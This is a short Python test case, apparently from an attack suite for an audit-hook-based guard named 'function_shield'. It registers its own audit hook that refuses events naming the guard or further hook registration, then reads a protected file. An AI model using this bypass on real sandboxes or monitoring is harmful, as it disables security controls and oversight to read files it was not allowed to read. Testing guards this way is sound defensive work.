# class: switch_off
# rule: read_write_tmp
# success: the attacker's own audit hook raises, so that the guard's hook is not called
# proof: read
import sys

from attack import FILE, attempt


def hook(event, arguments):
    # Everything is refused except what the attacker wants.
    if event.startswith(("function_shield", "sys.addaudithook")):
        raise RuntimeError("not for you")


@attempt
def steal():
    sys.addaudithook(hook)
    return open(FILE).read()
